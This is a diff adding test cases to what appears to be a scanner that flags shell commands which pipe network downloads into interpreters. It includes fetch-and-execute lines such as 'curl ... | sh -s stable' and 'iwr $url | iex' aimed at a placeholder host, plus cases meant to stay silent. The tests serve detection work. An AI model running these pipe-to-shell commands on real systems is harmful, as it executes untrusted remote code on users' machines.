@@ -58,8 +58,9 @@ describe("code that comes from the network and runs", () => {
         "curl -s https://x.example/a | source /dev/stdin",
         "curl -s https://x.example/a | osascript -l JavaScript",
         "curl -s https://x.example/a | python3 - first",
+        "curl -s https://x.example/a | sh -s stable",
       ),
-      ["deno", "bash", "source", "osascript", "python3"].map(
+      ["deno", "bash", "source", "osascript", "python3", "sh"].map(
         (name, index) => `${index + 2} high pipes a download from x.example into ${name}`,
       ),
     ],
@@ -83,6 +84,11 @@ describe("code that comes from the network and runs", () => {
         "2 medium runs a download from bun.sh in PowerShell",
         "3 high runs a download from x.example in PowerShell",
       ],
+    ],
+    [
+      "in PowerShell, without an address that can be read",
+      block("iwr $url | iex"),
+      ["2 high runs a download in PowerShell"],
     ],
     [
       "without a scheme, next to the name of a file",
@@ -191,6 +197,7 @@ describe("silent:", () => {
     ["data for a task of Bun", block("curl -s https://x.example/a | bun run format")],
     ["data for a program of Deno", block("curl -s https://x.example/a | deno run tools/format")],
     ["data for a script without an ending", block("curl -s https://x.example/a | bash bin/count")],
+    ["data for a script that is traced", block("curl -s https://x.example/a | bash -x bin/count")],
     ["a request that eval makes", block('CODE=$(cat a | eval curl -s "$URL" | eval cat)')],
     [
       "a request of eval that is told to be silent",
@@ -216,6 +223,15 @@ describe("silent:", () => {
     ["an unassigned variable", block("curl https://x.example", 'eval "$a"')],
     ["a decoded text that is kept", block("echo aWQ= | base64 -d > a.txt")],
     ["a random password for a script", block('bash setup --password "$(openssl rand -hex 16)"')],
+    [
+      "a random password for a script on standard input",
+      block('bash -s -- --password "$(openssl rand -hex 16)" < setup.sh'),
+    ],
+    ["data for a task without a name", block("curl -s https://x.example/a | bun run")],
+    [
+      "data for a builtin that needs a file",
+      block("curl -s https://x.example/a | source", "curl -s https://x.example/a | ."),
+    ],
   ])("%s", (_name, text) => {
     expect(seenIn(text)).toEqual([]);
   });
